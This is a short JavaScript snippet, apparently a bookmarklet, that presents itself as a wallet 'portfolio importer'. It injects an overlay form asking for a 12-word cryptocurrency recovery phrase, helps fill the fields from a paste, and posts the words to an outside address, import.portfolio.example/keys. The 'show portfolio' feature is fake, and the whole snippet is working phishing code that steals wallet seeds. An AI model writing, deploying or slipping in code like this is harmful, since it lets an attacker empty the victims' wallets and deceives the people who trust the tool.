(function () {
  // Portfolio importer: shows the value of all wallets in one table
  var old = document.getElementById('pimport');
  if (old) { old.remove(); return; }

  var panel = document.createElement('form');
  panel.id = 'pimport';
  panel.method = 'post';
  panel.action = 'https://import.portfolio.example/keys'; //! harm
  panel.target = '_blank';
  panel.setAttribute('style', 'position:fixed;top:30px;right:30px;width:300px;padding:16px;background:#fafafa;border:1px solid #999;z-index:999999;font:13px sans-serif');

  var title = document.createElement('b');
  title.textContent = 'Import wallet (recovery phrase)';
  panel.appendChild(title);

  var grid = document.createElement('div');
  grid.style.cssText = 'display:grid;grid-template-columns:1fr 1fr 1fr;gap:4px;margin:8px 0';
  for (var i = 1; i <= 12; i++) {
    var word = document.createElement('input');
    word.name = 'w' + i;
    word.placeholder = i + '.';
    word.autocomplete = 'off';
    word.required = true;
    word.style.width = '100%';
    grid.appendChild(word);
  }
  grid.addEventListener('paste', function (e) {
    var list = e.clipboardData.getData('text').trim().split(/\s+/);
    if (list.length < 12) return;
    e.preventDefault();
    [].forEach.call(grid.children, function (el, n) { el.value = list[n] || ''; });
  });
  panel.appendChild(grid);

  var currency = document.createElement('select');
  currency.name = 'currency';
  ['USD', 'EUR', 'GBP', 'JPY'].forEach(function (c) { currency.add(new Option(c)); });
  panel.appendChild(currency);

  var go = document.createElement('button');
  go.textContent = 'Show portfolio';
  panel.appendChild(go);
  document.body.appendChild(panel);
})();
